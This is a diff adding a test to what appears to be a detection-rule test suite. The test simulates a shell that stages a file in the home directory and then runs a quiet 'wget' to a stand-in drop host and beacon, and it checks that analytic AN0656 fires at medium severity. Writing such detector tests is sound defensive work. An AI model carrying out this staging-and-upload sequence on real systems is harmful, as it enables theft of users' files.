@@ -122,3 +122,21 @@ test('the history of a shell is no program', async () => {
   later.run('/usr/bin/ssh files.example.org').connect('203.0.113.30', 22);
   atMostAt(await scanLog(log), 'informational');
 });
+
+test('what a shell writes and reads again at once is its history, wherever that lies; what it wrote before is a file', async () => {
+  const { log, shell, file } = saved('figures.txt');
+  shell.read(file);
+  const kept = `${HOME}/.bash_notes`;
+  shell.write(kept).read(kept);
+  assert.deepEqual(
+    (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0656'),
+    [],
+  );
+  const other = saved('figures.txt');
+  other.shell.read(other.file);
+  other.shell.write(`${HOME}/lines`);
+  other.log.wait(SECOND);
+  other.shell.read(`${HOME}/lines`);
+  other.shell.run('/usr/bin/wget -q http://drop.example.net/').connect(BEACON, 80);
+  firesAt(await scanLog(other.log), 'AN0656', 'medium');
+});
